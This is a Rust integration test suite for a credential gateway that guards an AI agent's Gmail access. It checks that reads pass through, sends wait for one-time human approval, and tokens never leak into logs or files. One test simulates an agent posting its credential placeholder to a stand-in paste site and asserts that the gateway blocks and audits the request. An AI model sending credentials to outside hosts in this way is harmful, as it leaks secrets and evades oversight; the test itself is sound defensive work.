//! The story of issues 4 and 5, end to end with the real gateway: an agent
//! reads mail freely, its attempt to send mail waits for a person, and
//! after approval the mail goes out with the real credential, once. The
//! agent only ever holds a placeholder; a placeholder sent elsewhere is
//! blocked and audited; nothing the gateway wrote holds the token.

use std::fmt::Write as _;
use std::path::Path;
use std::time::{Duration, Instant};

use base64::Engine as _;
use gateway_tests::approval_flow::{approval_answer, decide, shown_status, wait_held};
use gateway_tests::client::Run;
use gateway_tests::gateway::Gateway;
use gateway_tests::gmail_standin::{GMAIL_HOST, LIST_PATH, SEND_PATH, raw_message};
use gateway_tests::gmail_story::{GmailStory, PASTE_HOST, SECRET};
use gateway_tests::https_clients::{Reply, curl_reply};
use gateway_tests::secrets::{assert_no_secret_in, assert_no_secret_in_text};
use serde_json::Value;

const MAIL: &str = "From: agent@example.com\r\nTo: alice@example.com\r\n\
    Subject: Quarterly report\r\n\r\nHello Alice, the report is attached.\r\n";

fn url(path: &str) -> String {
    format!("https://{GMAIL_HOST}{path}")
}

/// The agent's view of a request: its reply, and the placeholder only.
fn reply(s: &GmailStory, run: &Run) -> Reply {
    assert!(run.success(), "curl failed: {run:#?}\n{}", s.gateway.dump());
    let view = format!("{}\n{}", run.stdout, run.stderr);
    assert_no_secret_in_text("the agent's output", &view, SECRET);
    curl_reply(run)
}

fn cli(gateway: &Gateway, args: &[&str]) -> Run {
    let run = gateway.cli(args);
    assert!(
        run.success(),
        "gateway {args:?}: {run:#?}\n{}",
        gateway.dump()
    );
    run
}

/// `gateway audit export`, parsed, once it holds a record `until` accepts
/// (allowed requests are written in batches).
fn audit_until(gateway: &Gateway, until: impl Fn(&Value) -> bool) -> (Run, Vec<Value>) {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let run = cli(gateway, &["audit", "export"]);
        let records: Vec<Value> = run
            .stdout
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
            .collect();
        if records.iter().any(&until) {
            return (run, records);
        }
        assert!(
            Instant::now() < deadline,
            "the audit export lacks the record: {records:#?}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The index of the first record after `from` of `kind` that `also` accepts.
fn position(records: &[Value], from: usize, kind: &str, also: impl Fn(&Value) -> bool) -> usize {
    records
        .iter()
        .enumerate()
        .skip(from)
        .find_map(|(i, r)| (r["kind"] == kind && also(r)).then_some(i))
        .unwrap_or_else(|| panic!("no {kind} record after #{from}: {records:#?}"))
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "the story reads best in order, step by step"
)]
fn the_agent_reads_freely_and_sends_mail_once_a_person_approves() {
    let mut s = GmailStory::start("story", None);
    let env = std::fs::read_to_string(&s.env_file).expect("the env file");
    assert_eq!(env.trim(), format!("GMAIL_TOKEN={}", s.placeholder));
    assert!(s.placeholder.starts_with("gwph-"), "{}", s.placeholder);

    // (a) Reading is allowed; Gmail gets the real token.
    let run = s.agent_curl("GET", &url(LIST_PATH), None, true).run();
    let list = reply(&s, &run);
    assert_eq!(list.status, 200, "{list:#?}\n{}", s.gateway.dump());
    assert_eq!(list.json()["messages"].as_array().map(Vec::len), Some(2));
    let read = s.gmail.wait_for("GET", LIST_PATH, 1);
    assert_eq!(
        read.authorization,
        Some(format!("Bearer {SECRET}")),
        "Gmail gets the real token: {read:#?}"
    );

    // (b) Sending is held until a person approves.
    let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(MAIL);
    let body = serde_json::json!({ "raw": raw }).to_string();
    let held = s.send_held(&body);
    let id = wait_held(&s.gateway, 1);
    std::thread::sleep(Duration::from_millis(500));
    assert!(!held.is_finished(), "the send request is held open");
    assert!(
        s.gmail.requests_to("POST", SEND_PATH).is_empty(),
        "nothing is sent before approval: {:#?}",
        s.gmail.requests()
    );
    let pending = cli(&s.gateway, &["approvals", "list"]);
    let line = pending
        .stdout
        .lines()
        .find(|l| l.starts_with(&id))
        .unwrap_or_else(|| panic!("{id} is not listed: {pending:#?}"));
    for expected in [
        "pending",
        "POST https://gmail.googleapis.com/gmail/v1/users/me/messages/send",
        "rule mail/write",
    ] {
        assert!(line.contains(expected), "{expected:?} not in {line:?}");
    }
    let show = cli(&s.gateway, &["approvals", "show", &id]);
    for expected in [
        "POST /gmail/v1/users/me/messages/send HTTP/1.1",
        "authorization: [redacted]",
        body.as_str(),
        "status:    pending",
        "rule:      mail/write (The agent wants to send mail)",
    ] {
        assert!(
            show.stdout.contains(expected),
            "show lacks {expected:?}: {show:#?}"
        );
    }
    assert!(
        !show.stdout.contains(&s.placeholder),
        "the Authorization value is not shown: {show:#?}"
    );
    let digest = ring::digest::digest(&ring::digest::SHA256, body.as_bytes());
    let hex = digest.as_ref().iter().fold(String::new(), |mut hex, b| {
        let _ = write!(hex, "{b:02x}");
        hex
    });
    let bound = format!("body:      {} bytes, sha256 {hex}", body.len());
    assert!(
        show.stdout.contains(&bound),
        "the approval is bound to these bytes ({bound}): {show:#?}"
    );
    let approve = decide(&s.gateway, "approve", &id, None);
    assert!(approve.stdout.contains("approved"), "{approve:#?}");
    let run = held.join().expect("the agent's thread");
    let sent = reply(&s, &run);
    assert_eq!(sent.status, 200, "{sent:#?}\n{}", s.gateway.dump());
    assert_eq!(sent.json()["labelIds"], serde_json::json!(["SENT"]));
    assert_eq!(sent.json()["id"], "sent-1");
    let at_gmail = s.gmail.wait_for("POST", SEND_PATH, 1);
    assert_eq!(
        at_gmail.authorization,
        Some(format!("Bearer {SECRET}")),
        "the approved send carries the real token: {at_gmail:#?}"
    );
    assert_eq!(
        at_gmail.body,
        body.as_bytes(),
        "exactly the approved body went out"
    );
    assert_eq!(
        raw_message(&at_gmail.body).as_deref(),
        Some(MAIL.as_bytes())
    );
    assert_eq!(shown_status(&s.gateway, &id), "used");

    // (c) The same send again is another approval: once only.
    let again = s.send_held(&body);
    let second = wait_held(&s.gateway, 2);
    assert_ne!(second, id, "a used approval is not reused");
    std::thread::sleep(Duration::from_millis(500));
    assert!(!again.is_finished(), "the second send is held too");
    decide(&s.gateway, "deny", &second, Some("once is enough"));
    let refused = reply(&s, &again.join().expect("the agent's thread"));
    let (answer_id, status) = approval_answer(&refused, 403, "approval_denied");
    assert_eq!(
        (answer_id.as_str(), status.as_str()),
        (second.as_str(), "denied")
    );
    assert_eq!(
        s.gmail.requests_to("POST", SEND_PATH).len(),
        1,
        "the mail went out exactly once"
    );

    // (d) The audit log tells the story in order, and verifies.
    let (export, records) = audit_until(&s.gateway, |r| {
        r["kind"] == "approval_denied" && r["approval_id"] == second.as_str()
    });
    let of = |r: &Value| r["approval_id"] == id.as_str();
    let allowed = position(&records, 0, "allowed", |r| {
        r["method"] == "GET" && r["host"] == GMAIL_HOST && r["path"] == LIST_PATH
    });
    assert_eq!(records[allowed]["rule"], "mail/read", "{records:#?}");
    let requested = position(&records, allowed + 1, "approval_requested", of);
    assert_eq!(records[requested]["rule"], "mail/write");
    let approved = position(&records, requested + 1, "approved", of);
    assert_eq!(
        (
            records[approved]["by"].as_str(),
            records[approved]["via"].as_str()
        ),
        (Some("root"), Some("cli")),
        "{records:#?}"
    );
    let used = position(&records, approved + 1, "approval_used", of);
    let denied = position(&records, used + 1, "approval_denied", |r| {
        r["approval_id"] == second.as_str()
    });
    assert_eq!(records[denied]["reason"], "once is enough");
    for (i, record) in records.iter().enumerate() {
        assert_eq!(record["seq"], i as u64 + 1, "in order from 1: {record}");
    }
    let verify = cli(&s.gateway, &["audit", "verify"]);
    assert!(verify.stdout.contains("chain intact"), "{verify:#?}");

    // (e) Nothing the gateway wrote or printed holds the token: scanned
    // once it stopped, so sled has flushed everything to its files.
    let status = s.gateway.terminate();
    assert!(status.success(), "{status}\n{}", s.gateway.dump());
    let offline = s.gateway.cli(&["audit", "verify"]);
    assert!(
        offline.success() && offline.stdout.starts_with("6 records, chain intact"),
        "the database on disk verifies: {offline:#?}"
    );
    let printed = [&env, &pending.stdout, &show.stdout, &approve.stdout]
        .into_iter()
        .chain([&export.stdout, &verify.stdout, &offline.stdout])
        .map(String::as_str)
        .collect::<Vec<_>>()
        .join("\n");
    assert_no_secret_in_text("the CLI's output and the audit export", &printed, SECRET);
    assert_no_secret_in_text("the gateway's log", &s.gateway.dump(), SECRET);
    let state = s.vault.state_dir.as_path();
    let db_files = count_files(&state.join("db"));
    assert!(
        db_files >= 2,
        "the sled database is in the state dir ({db_files} files)"
    );
    let config_dir = s.gateway.config_path().parent().expect("config dir");
    let scanned = assert_no_secret_in(&[state, config_dir, s.dir.path()], SECRET);
    assert!(
        scanned >= db_files + 5,
        "the scan read the database, vault, key, config, policy, pack ({scanned} files)"
    );
    assert_scan_can_fail(s.dir.path());
}

fn count_files(dir: &Path) -> usize {
    std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("listing {}: {e}", dir.display()))
        .filter_map(Result::ok)
        .map(|e| {
            let path = e.path();
            if path.is_dir() { count_files(&path) } else { 1 }
        })
        .sum()
}

/// The scans above would have found the token: as is, or as base64 inside
/// a longer base64 text (as in a mail's `raw`).
fn assert_scan_can_fail(dir: &Path) {
    let leak = dir.join("leak-control");
    std::fs::create_dir_all(&leak).unwrap();
    let wrapped = format!("Subject: x\r\n\r\ntoken={SECRET}\r\n");
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(wrapped);
    std::fs::write(leak.join("mail.json"), format!("{{\"raw\":\"{b64}\"}}")).unwrap();
    let found = std::panic::catch_unwind(|| assert_no_secret_in(&[&leak], SECRET));
    assert!(
        found.is_err(),
        "the file scan misses a base64-wrapped token"
    );
    let found = std::panic::catch_unwind(|| {
        assert_no_secret_in_text("control", &format!("Bearer {SECRET}"), SECRET);
    });
    assert!(found.is_err(), "the text scan misses the token");
    std::fs::remove_dir_all(&leak).unwrap();
}

#[test]
fn a_placeholder_sent_to_another_host_is_blocked_and_audited() {
    let s = GmailStory::start("story-exfil", None);
    let paste = format!("https://{PASTE_HOST}/upload");
    // The paste site is allowed: without the placeholder the request goes through.
    let run = s
        .agent_curl("POST", &paste, Some("{\"note\":\"hi\"}"), false)
        .run();
    let plain = reply(&s, &run);
    assert_eq!(plain.status, 200, "{plain:#?}\n{}", s.gateway.dump());
    assert_eq!(s.gmail.requests().len(), 1, "{:#?}", s.gmail.requests());

    let run = s
        .agent_curl("POST", &paste, Some("{\"note\":\"hi\"}"), true)
        .run();
    let blocked = reply(&s, &run);
    let refusal = blocked.expect_refusal(403, "exfiltration_blocked");
    assert!(refusal.message.contains("GMAIL_TOKEN"), "{refusal:#?}");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        s.gmail.requests().len(),
        1,
        "the blocked request never reached the paste site: {:#?}",
        s.gmail.requests()
    );

    let (export, records) = audit_until(&s.gateway, |r| r["kind"] == "exfiltration_blocked");
    let record = &records[position(&records, 0, "exfiltration_blocked", |_| true)];
    assert_eq!(
        (
            record["secret"].as_str(),
            record["host"].as_str(),
            record["agent"].as_str(),
            record["request_id"].as_str()
        ),
        (
            Some("GMAIL_TOKEN"),
            Some(PASTE_HOST),
            Some("agent"),
            Some(refusal.request_id.as_str())
        ),
        "{record:#}"
    );
    assert!(
        record["position"].as_str().is_some_and(|p| !p.is_empty()),
        "the record says where the placeholder was: {record:#}"
    );
    assert_no_secret_in_text("the audit export", &export.stdout, SECRET);
    assert_no_secret_in_text("the gateway's log", &s.gateway.dump(), SECRET);
    let verify = cli(&s.gateway, &["audit", "verify"]);
    assert!(verify.stdout.contains("chain intact"), "{verify:#?}");
    let scanned = assert_no_secret_in(&[s.vault.state_dir.as_path(), s.dir.path()], SECRET);
    assert!(scanned >= 4, "{scanned} files scanned");
}
